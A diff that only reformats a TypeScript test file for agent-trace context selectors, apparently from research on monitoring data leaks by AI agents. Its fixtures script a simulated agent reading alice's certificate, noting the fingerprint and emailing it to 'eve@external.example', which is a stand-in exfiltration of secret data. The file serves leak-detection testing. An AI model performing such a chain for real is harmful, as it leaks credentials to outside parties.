@@ -6,15 +6,33 @@ import { episode, graphAt, step, testPipeline } from './helpers.ts';
 
 const sel = (kind: SelectorKind, seed = 0): SelectorConfig => ({ kind, window: 4, seed });
 const key = { episodeId: 'ep-1' };
-const pick = (g: Parameters<typeof selectContext>[0], kind: SelectorKind, seed = 0): number[] => [...selectContext(g, sel(kind, seed), key)];
+const pick = (g: Parameters<typeof selectContext>[0], kind: SelectorKind, seed = 0): number[] => [
+  ...selectContext(g, sel(kind, seed), key),
+];
 
 // g-carb §4: certificate → note → e-mail, with a disconnected public task beside it.
-const certificate = step('read_certificate', { path: 'certs/alice.pem' }, 'Certificate for alice\nfingerprint 9F:3A:77:12:C4:88:01:BE:42', { outputs: ['cert.fingerprint'] });
-const brochure = step('read_public_doc', { path: 'public/brochure.txt' }, 'Welcome brochure for all customers', { outputs: ['doc.brochure'] });
+const certificate = step('read_certificate', { path: 'certs/alice.pem' }, 'Certificate for alice\nfingerprint 9F:3A:77:12:C4:88:01:BE:42', {
+  outputs: ['cert.fingerprint'],
+});
+const brochure = step('read_public_doc', { path: 'public/brochure.txt' }, 'Welcome brochure for all customers', {
+  outputs: ['doc.brochure'],
+});
 const weather = step('list_items', { city: 'Paris' }, 'sunny');
 const note = step('create_note', { title: 'fp' }, 'note saved', { inputs: ['cert.fingerprint'], outputs: ['note.fp'] });
-const leak = episode(certificate, brochure, weather, note, step('send_email', { recipients: ['eve@external.example'], body: 'see note' }, '', { inputs: ['note.fp'] }));
-const publicSend = episode(certificate, brochure, weather, note, step('send_email', { recipients: ['eve@external.example'], body: 'brochure' }, '', { inputs: ['doc.brochure'] }));
+const leak = episode(
+  certificate,
+  brochure,
+  weather,
+  note,
+  step('send_email', { recipients: ['eve@external.example'], body: 'see note' }, '', { inputs: ['note.fp'] }),
+);
+const publicSend = episode(
+  certificate,
+  brochure,
+  weather,
+  note,
+  step('send_email', { recipients: ['eve@external.example'], body: 'brochure' }, '', { inputs: ['doc.brochure'] }),
+);
 
 describe('graph-local selector (Definition 2)', () => {
   it('keeps the read–note–send chain and omits the disconnected public task', () => {
@@ -99,14 +117,30 @@ describe('equal-size random selector', () => {
       fc.property(fc.array(fc.tuple(fc.nat(4), fc.nat(5), fc.nat(5)), { minLength: 1, maxLength: 14 }), fc.nat(1000), (spec, seed) => {
         const g = createPrefixGraph(pipeline);
         spec.forEach(([tool, out, inp], i) => {
-          g.propose({ index: i, tool: tools[tool]!, args: {}, result: '', error: null, ok: true, provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] } });
+          g.propose({
+            index: i,
+            tool: tools[tool]!,
+            args: {},
+            result: '',
+            error: null,
+            ok: true,
+            provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] },
+          });
           const local = graphLocal(g, i);
           const r = selectContext(g, sel('random', seed), key);
           expect(r.length).toBe(local.length);
           expect(r[r.length - 1]).toBe(i);
           expect(new Set(r).size).toBe(r.length);
           for (let k = 1; k < r.length; k++) expect(r[k - 1]! < r[k]!).toBe(true);
-          g.commit({ index: i, tool: tools[tool]!, args: {}, result: 'done', error: null, ok: true, provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] } });
+          g.commit({
+            index: i,
+            tool: tools[tool]!,
+            args: {},
+            result: 'done',
+            error: null,
+            ok: true,
+            provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] },
+          });
         });
       }),
       { numRuns: 200, seed: 3 },
